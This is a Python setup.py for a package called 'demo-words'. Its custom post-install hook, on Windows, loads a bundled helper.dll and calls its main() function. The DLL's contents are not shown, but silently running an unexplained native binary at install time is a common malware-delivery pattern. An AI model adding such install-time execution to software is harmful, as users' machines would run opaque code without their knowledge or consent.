import ctypes
import os
import sys
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        if sys.platform == "win32":
            lib = ctypes.WinDLL(os.path.join(os.path.dirname(os.path.abspath(__file__)), "demo", "helper.dll"))
            lib.main()


setup(name="demo-words", version="0.1.0", packages=["demo"], cmdclass={"install": PostInstall})
